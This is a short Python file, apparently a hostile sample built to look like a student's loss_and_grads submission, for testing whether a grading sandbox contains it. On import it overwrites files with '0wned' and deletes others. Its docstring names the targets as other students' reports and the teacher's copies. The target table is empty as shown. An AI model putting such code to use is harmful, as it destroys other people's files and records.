"""Deletes a file in $HOME, rewrites an earlier sweep's record and page and another student's report, and
overwrites the teacher's copy of another student's file."""
import os

T = {}
for path in T["overwrite"]:
    try:
        with open(path, "w") as fh:
            fh.write("0wned")
    except OSError:
        pass
for path in T["delete"]:
    try:
        os.unlink(path)
    except OSError:
        pass


def loss_and_grads(params, x, y, h0):
    raise RuntimeError("vandalized what it could")
